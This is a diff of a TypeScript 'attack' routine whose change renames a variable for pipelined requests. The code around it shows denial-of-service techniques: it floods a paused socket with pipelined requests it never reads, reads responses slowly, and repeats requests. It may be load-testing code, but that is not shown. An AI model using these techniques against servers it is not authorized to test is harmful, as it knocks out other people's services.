@@ -70,10 +70,10 @@ async function attack({ address, name, seconds, pictures }: AttackJob): Promise<
     if (!over.signal.aborted) result.answered[status] = (result.answered[status] ?? 0) + 1;
   }
 
-  function neverRead(socket: Socket, request: string, pipelines: number): NodeJS.Timeout {
+  function neverRead(socket: Socket, request: string, pipelinedRequests: number): NodeJS.Timeout {
     socket.pause();
-    socket.write(request.repeat(pipelines));
-    result.requests += pipelines;
+    socket.write(request.repeat(pipelinedRequests));
+    result.requests += pipelinedRequests;
     return setInterval(() => {
       result.requests += 1;
       socket.write(request);
@@ -108,8 +108,9 @@ async function attack({ address, name, seconds, pictures }: AttackJob): Promise<
   async function client(number: number): Promise<void> {
     while (!over.signal.aborted) {
       await turn();
-      if ('pipelines' in conduct) await hold(number, (socket) => neverRead(socket, conduct.request, conduct.pipelines));
-      else if ('readsBytes' in conduct) {
+      if ('pipelinedRequests' in conduct) {
+        await hold(number, (socket) => neverRead(socket, conduct.request, conduct.pipelinedRequests));
+      } else if ('readsBytes' in conduct) {
         const { readsBytes, everyMs, request } = conduct;
         await hold(number, (socket) => readSlowly(socket, request, everyMs), readsBytes);
       } else await requestRepeatedly(number, conduct.request);
